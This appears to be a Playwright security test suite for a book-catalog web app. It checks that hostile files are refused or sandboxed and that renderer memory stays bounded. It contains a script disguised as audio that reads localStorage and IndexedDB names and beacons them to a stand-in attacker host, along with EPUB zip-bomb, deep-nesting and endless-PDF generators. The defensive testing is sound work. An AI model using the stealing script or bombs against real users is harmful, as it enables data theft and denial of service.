// Hostile files a catalog record can lead the reader to save and open (issue 36), on the suite's
// shared build with records added, their files on a loopback host of another origin (CORS allowed,
// as an attacker's host would):
// - "audio" that is an HTML page with a script: refused at save; a copy kept by an older version is
//   served as a download, sandboxed and never sniffed; the record's link into the app's own
//   saved-file path is not shown; no script runs on the app's origin, nothing reaches the attacker;
// - an endless PDF and one declaring 300 MB: refused at 200 MB (or at once), nothing kept;
// - EPUBs whose entries inflate to a gigabyte (listed by the book or not), a chapter of 2 million
//   elements, one nested 60,000 deep, and chapters under each entry's limit that pass the book's:
//   each refused with its reason, in English and Nepali.
// Every case measures the browser's renderer processes (renderer-memory.ts): a peak under 500 MB.

import { cpSync, readFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { join, resolve } from 'node:path';
import { type Browser, type BrowserContext, expect as baseExpect, type Page, test } from '@playwright/test';
import { recordFiles } from '../../src/core/books/files.ts';
import { appHandler } from '../../src/server/app.ts';
import { writeCatalog } from '../helpers/catalog-file.ts';
import { chapterText, hostileEpub } from '../helpers/hostile-epub.ts';
import { listen, type Served } from '../../harness/http.ts';
import { makeEpub } from '../helpers/epub.ts';
import { openApp } from './helpers.ts';
import { type RendererPeak, watchRenderers } from './renderer-memory.ts';
import { ALL_DIST } from '../../harness/variant.ts';

const ROOT = resolve(import.meta.dirname, '../..');
const expect = baseExpect.configure({ timeout: 60_000 });
test.describe.configure({ timeout: 300_000 });

const PEAK_MB = 500;
const GB = 1 << 30;
const MB = 1 << 20;

/** What the attacker's page does on the app's origin: read the reader's data and send it away. */
const STEAL = (host: string) => `<!doctype html><html><head><title>lesson</title></head><body><script>
document.title = 'pwned';
var note = localStorage.getItem('khoj.test.note');
navigator.sendBeacon('${host}/beacon', 'note=' + note);
indexedDB.databases().then(function (d) { navigator.sendBeacon('${host}/beacon', 'dbs=' + d.map(function (x) { return x.name; }).join(',')); });
</script><p>Listen to the lesson.</p></body></html>`;

/** A WAV file: a second of silence, 8 kHz mono 16-bit. */
function wav(): Buffer {
  const n = 8000;
  const b = Buffer.alloc(44 + n * 2);
  b.write('RIFF', 0);
  b.writeUInt32LE(36 + n * 2, 4);
  b.write('WAVEfmt ', 8);
  b.writeUInt32LE(16, 16);
  b.writeUInt16LE(1, 20);
  b.writeUInt16LE(1, 22);
  b.writeUInt32LE(8000, 24);
  b.writeUInt32LE(16000, 28);
  b.writeUInt16LE(2, 32);
  b.writeUInt16LE(16, 34);
  b.write('data', 36);
  b.writeUInt32LE(n * 2, 40);
  return b;
}

interface Hostile {
  id: string;
  title: string;
  fields: Record<string, unknown>;
}

let site: Served;
let host: Served;
const beacons: string[] = [];
/** bytes the host sent of each endless answer, by path */
const sent = new Map<string, number>();
const files = new Map<string, { body: Buffer; type: string }>();
let attackUrl = '';

const EPUBS = {
  'unreferenced-bomb': 'An EPUB with a 1 GB entry it never lists',
  'referenced-bomb': 'An EPUB whose chapter inflates to 1 GB',
  elements: 'An EPUB with 2 million elements in a chapter',
  deep: 'An EPUB nested 60,000 deep',
  'whole-book': 'An EPUB of chapters that together inflate past the book limit',
} as const;
type EpubCase = keyof typeof EPUBS;

async function makeEpubs(): Promise<Record<EpubCase, Buffer>> {
  const ok = { name: 'ch1.xhtml', data: chapterText('One', '<p>Once upon a time.</p>') };
  return {
    'unreferenced-bomb': await hostileEpub(EPUBS['unreferenced-bomb'], [ok], [{ name: 'OEBPS/junk.bin', repeat: { fill: '\0', bytes: GB } }]),
    'referenced-bomb': await hostileEpub(EPUBS['referenced-bomb'], [ok, { name: 'ch2.xhtml', repeat: { fill: ' ', bytes: GB } }]),
    // The first chapter: the one a reader sees at once.
    elements: await hostileEpub(EPUBS.elements, [{ name: 'ch1.xhtml', data: chapterText('One', '<i/>'.repeat(2_000_000)) }]),
    deep: await hostileEpub(EPUBS.deep, [{ name: 'ch1.xhtml', data: chapterText('One', `${'<span>'.repeat(60_000)}deep${'</span>'.repeat(60_000)}`) }]),
    // Ten chapters of 30 MB: each under the limit of one entry, together past the book's.
    'whole-book': await hostileEpub(
      EPUBS['whole-book'],
      Array.from({ length: 10 }, (_, i) => ({ name: `ch${i + 1}.xhtml`, repeat: { fill: ' ', bytes: 30 * MB } })),
    ),
  };
}

/** The host: the files of the hostile records, with CORS, and the attacker's beacon. */
function hostHandler(req: IncomingMessage, res: ServerResponse): void {
  const path = new URL(req.url ?? '/', 'http://x').pathname;
  const cors = { 'Access-Control-Allow-Origin': '*', 'Cache-Control': 'no-store' };
  if (path === '/beacon') {
    let body = '';
    req.on('data', (d: Buffer) => (body += d.toString()));
    req.on('end', () => (beacons.push(body), res.writeHead(204, cors).end()));
    return;
  }
  if (path === '/endless.pdf' || path === '/declared.pdf') {
    // %PDF- and then megabytes for ever (or 300 MB said up front), until the reader stops reading.
    const declared = path === '/declared.pdf';
    res.writeHead(200, { ...cors, 'Content-Type': 'application/pdf', ...(declared ? { 'Content-Length': String(300 * MB) } : {}) });
    const first = Buffer.alloc(MB, 0x20);
    first.write('%PDF-1.7\n');
    const chunk = Buffer.alloc(MB, 0x20);
    let n = 0;
    const write = () => {
      while (!res.destroyed) {
        const piece = n === 0 ? first : chunk;
        n += piece.length;
        sent.set(path, n);
        if (declared && n >= 300 * MB) return void res.end(piece);
        if (!res.write(piece)) return void res.once('drain', write);
      }
    };
    res.on('close', () => sent.set(path, n));
    return write();
  }
  const file = files.get(path);
  if (!file) return void res.writeHead(404, cors).end();
  res.writeHead(200, { ...cors, 'Content-Type': file.type, 'Content-Length': file.body.length }).end(file.body);
}

test.beforeAll(async () => {
  test.setTimeout(300_000);
  host = await listen(hostHandler);
  attackUrl = `${host.url}/evil/lesson.mp3`;
  files.set('/evil/lesson.mp3', { body: Buffer.from(STEAL(host.url)), type: 'text/html; charset=utf-8' });
  files.set('/good/lesson.wav', { body: wav(), type: 'audio/wav' });
  const epubs = await makeEpubs();
  for (const [name, body] of Object.entries(epubs)) files.set(`/epub/${name}.epub`, { body, type: 'application/epub+zip' });
  files.set('/epub/good.epub', { body: makeEpub('A good book', [{ title: 'One', body: '<p id="fine">Fine.</p>' }]), type: 'application/epub+zip' });

  const dir = join(ROOT, `.e2e/books-hostile-${test.info().parallelIndex}`);
  cpSync(ALL_DIST, dir, { recursive: true });
  const catalog = JSON.parse(readFileSync(join(dir, 'api/books/catalog.json'), 'utf8')) as { books: Array<Record<string, unknown>> };
  const template = catalog.books[0]!;
  const hostile: Hostile[] = [
    // The record's readUrl points into the app's own saved-file path, as the build kept it.
    { id: 'hostile-audio', title: 'Hostile audio', fields: { audioUrl: attackUrl, readUrl: `api/books/saved-file?url=${encodeURIComponent(attackUrl)}` } },
    { id: 'good-audio', title: 'Good audio', fields: { audioUrl: `${host.url}/good/lesson.wav` } },
    { id: 'endless-pdf', title: 'Endless PDF', fields: { pdfUrl: `${host.url}/endless.pdf` } },
    { id: 'declared-pdf', title: 'Declared PDF', fields: { pdfUrl: `${host.url}/declared.pdf` } },
    { id: 'good-epub', title: 'A good book', fields: { downloadUrl: [`${host.url}/epub/good.epub`] } },
    ...Object.entries(EPUBS).map(([name, title]) => ({ id: `epub-${name}`, title, fields: { downloadUrl: [`${host.url}/epub/${name}.epub`] } })),
  ];
  for (const h of hostile) {
    const record: Record<string, unknown> = { ...template, id: h.id, title: h.title, readUrl: null, pdfUrl: null, sample: false, ...h.fields };
    delete record.files;
    record.files = recordFiles(record);
    catalog.books.push(record);
  }
  writeCatalog(dir, catalog);
  const app = appHandler(dir);
  site = await listen((req, res) => void app(req, res));
});

test.afterAll(async () => {
  await site?.close();
  await host?.close();
});

/** A fresh context and page (their renderers started after the watch), in `lang`. */
async function fresh(browser: Browser, lang: 'en' | 'ne' = 'en'): Promise<{ context: BrowserContext; page: Page }> {
  const context = await browser.newContext({ serviceWorkers: 'allow' });
  // Once: a test switches the language later by setting it.
  await context.addInitScript((l) => {
    if (!localStorage.getItem('khoj.test.note')) localStorage.setItem('khoj.lang', l);
    localStorage.setItem('khoj.test.note', 'my portfolio note');
  }, lang);
  return { context, page: await context.newPage() };
}

test('"audio" that is an HTML page: refused at save, a kept copy served as a sandboxed download, the record’s link into saved files not shown; no script runs as the app', async ({
  browser,
}) => {
  const { context, page } = await fresh(browser);
  await openApp(page, site.url, '#/books/book/hostile-audio');
  const row = page.locator(`li.file-row[data-kind="audio"]`);
  await row.locator('button.save-file').click();
  await expect(row.locator('.file-saved, .file-failed')).toBeVisible();

  // The record's readUrl, followed as a reader would: the worker's answer for the saved-file path.
  const readUrl = `${site.url}/api/books/saved-file?url=${encodeURIComponent(attackUrl)}`;
  await page.goto(readUrl).catch(() => undefined);
  expect(await page.title()).not.toBe('pwned');
  await page.goto(`${site.url}/#/books/book/hostile-audio`);
  await expect(row.locator('.file-failed')).toHaveText('Could not save: the file is not an audio file');
  expect(await page.evaluate(async (u) => !!(await (await caches.open('khoj-books-pdfs')).match(u)), attackUrl)).toBe(false);

  // A copy an older version kept with the host's text/html: a download, never a page of the app.
  const old = `${host.url}/evil/old.mp3`;
  await page.evaluate(async ([u, html]) => (await caches.open('khoj-books-pdfs')).put(u, new Response(html, { headers: { 'Content-Type': 'text/html' } })), [
    old,
    STEAL(host.url),
  ] as const);
  const oldPath = `api/books/saved-file?url=${encodeURIComponent(old)}`;
  const headers = await page.evaluate(async (p) => Object.fromEntries((await fetch(p)).headers), oldPath);
  expect(headers).toMatchObject({
    'content-type': 'application/octet-stream',
    'content-disposition': 'attachment',
    'x-content-type-options': 'nosniff',
    'content-security-policy': "sandbox; default-src 'none'",
  });
  const download = page.waitForEvent('download');
  await page.goto(`${site.url}/${oldPath}`).catch(() => undefined);
  await (await download).cancel();
  expect(await page.title()).not.toBe('pwned');

  // The record's links: none into the app's saved files (its readUrl, as "Read" or as a file to open).
  await page.goto(`${site.url}/#/books/book/hostile-audio`);
  await expect(page.locator('#files-h')).toBeVisible();
  await expect(page.locator('a[href*="saved-file"]')).toHaveCount(0);
  await expect(page.locator('li.file-row')).toHaveCount(1);

  // A real audio file is kept with its own type and served with the same protections.
  await page.goto(`${site.url}/#/books/book/good-audio`);
  await page.locator('li.file-row[data-kind="audio"] button.save-file').click();
  await expect(page.locator('li.file-row[data-kind="audio"] .file-saved')).toBeVisible();
  const good = await page.evaluate(
    async (p) => Object.fromEntries((await fetch(p)).headers),
    `api/books/saved-file?url=${encodeURIComponent(`${host.url}/good/lesson.wav`)}`,
  );
  expect(good).toMatchObject({ 'content-type': 'audio/wav', 'x-content-type-options': 'nosniff', 'content-security-policy': "sandbox; default-src 'none'" });
  expect(good['content-disposition']).toBeUndefined();

  // Whatever reached the attacker's host.
  await context.close();
  expect(beacons).toEqual([]);
});

test('a PDF past 200 MB: an endless one and one declaring 300 MB are refused, nothing partial kept, the renderers stay under 500 MB', async ({ browser }) => {
  const watch = await watchRenderers(browser);
  const { context, page } = await fresh(browser);
  let peak: RendererPeak | undefined;
  try {
    await openApp(page, site.url, '#/books/book/endless-pdf');
    await page.locator('button.save-pdf').click();
    await expect(page.locator('.pdf-state.failed')).toContainText('the file is larger than 200.0 MB', { timeout: 120_000 });
    await page.goto(`${site.url}/#/books/book/declared-pdf`);
    await page.locator('button.save-pdf').click();
    await expect(page.locator('.pdf-state.failed')).toContainText('the file is larger than 200.0 MB');
    const kept = await page.evaluate(async () => (await (await caches.open('khoj-books-pdfs')).keys()).map((r) => r.url));
    expect(kept).toEqual([]);
    const { usage } = await page.evaluate(() => navigator.storage.estimate());
    console.log(`storage used after: ${Math.round(usage! / MB)} MB`);
    expect(usage!).toBeLessThan(50 * MB);
  } finally {
    peak = await watch.stop();
    await context.close();
    console.log(
      `endless PDF: the host sent ${Math.round((sent.get('/endless.pdf') ?? 0) / MB)} MB; declared 300 MB: ${Math.round((sent.get('/declared.pdf') ?? 0) / MB)} MB sent; renderer peak ${peak.peakMb} MB${peak.killed.length ? ' (killed past 1.5 GB)' : ''}`,
    );
  }
  expect(peak.killed).toEqual([]);
  expect(peak.peakMb).toBeLessThan(PEAK_MB);
  // Stopped at the limit: not much past 200 MB sent.
  expect(sent.get('/endless.pdf')!).toBeLessThan(260 * MB);
});

/** What each refused book says (the unreferenced bomb opens). */
const REFUSALS: Partial<Record<EpubCase, { en: string; ne: string }>> = {
  'referenced-bomb': {
    en: 'OEBPS/ch2.xhtml inflates to more than 32.0 MB, the most one file of a book may.',
    ne: 'OEBPS/ch2.xhtml खोल्दा ३२.० MB भन्दा ठूलो हुन्छ (पुस्तकको एउटा फाइलको सीमा)।',
  },
  elements: {
    en: 'OEBPS/ch1.xhtml holds more than 100,000 elements, the most one chapter may.',
    ne: 'OEBPS/ch1.xhtml मा १,००,००० भन्दा धेरै तत्व छन् (एउटा अध्यायको सीमा)।',
  },
  deep: {
    en: 'OEBPS/ch1.xhtml is nested more than 256 deep, the most one chapter may be.',
    ne: 'OEBPS/ch1.xhtml २५६ तहभन्दा गहिरो छ (एउटा अध्यायको सीमा)।',
  },
  'whole-book': {
    en: 'The book’s files inflate to more than 128.0 MB together, the most a book may.',
    ne: 'पुस्तकका फाइलहरू खोल्दा जम्मा १२८.० MB भन्दा ठूला हुन्छन् (एउटा पुस्तकको सीमा)।',
  },
};

for (const name of Object.keys(EPUBS) as EpubCase[]) {
  test(`EPUB: ${EPUBS[name]} — ${name === 'unreferenced-bomb' ? 'opens, the entry never inflated' : 'refused, saying why'}; the renderers stay under 500 MB`, async ({
    browser,
  }) => {
    const watch = await watchRenderers(browser);
    const { context, page } = await fresh(browser);
    let peak: RendererPeak | undefined;
    try {
      await openApp(page, site.url, `#/books/book/epub-${name}`);
      await page.locator('button.save-pdf').click();
      await expect(page.locator('.pdf-saved')).toBeVisible();
      await page.locator('a.open-saved').click();
      const refusal = REFUSALS[name];
      if (!refusal) {
        await expect(page.locator('#epub-page')).toHaveAttribute('data-chapter', '1');
        await expect(page.locator('#epub-page p')).toHaveText('Once upon a time.');
      } else {
        const problem = page.locator('#reader-problem');
        await expect(problem).toHaveAttribute('data-problem', 'refused');
        await expect(problem).toHaveText('This EPUB was not opened: it is too large or too complex to open safely on this device.');
        await expect(page.locator('#reader-refusal')).toHaveText(refusal.en);
        // In Nepali too.
        await page.evaluate(() => localStorage.setItem('khoj.lang', 'ne'));
        await page.reload();
        await expect(problem).toHaveText('यो EPUB खोलिएन: यो यन्त्रमा सुरक्षित रूपमा खोल्न यो धेरै ठूलो वा जटिल छ।');
        await expect(page.locator('#reader-refusal')).toHaveText(refusal.ne);
      }
    } finally {
      peak = await watch.stop();
      await context.close();
      console.log(`EPUB ${name}: renderer peak ${peak.peakMb} MB${peak.killed.length ? ' (killed past 1.5 GB)' : ''}`);
    }
    expect(peak.killed).toEqual([]);
    expect(peak.peakMb).toBeLessThan(PEAK_MB);
  });
}

test('EPUB: a good book still opens and reads', async ({ browser }) => {
  const { context, page } = await fresh(browser);
  await openApp(page, site.url, '#/books/book/good-epub');
  await page.locator('button.save-pdf').click();
  await page.locator('a.open-saved').click();
  await expect(page.locator('#epub-page #fine')).toHaveText('Fine.');
  await context.close();
});
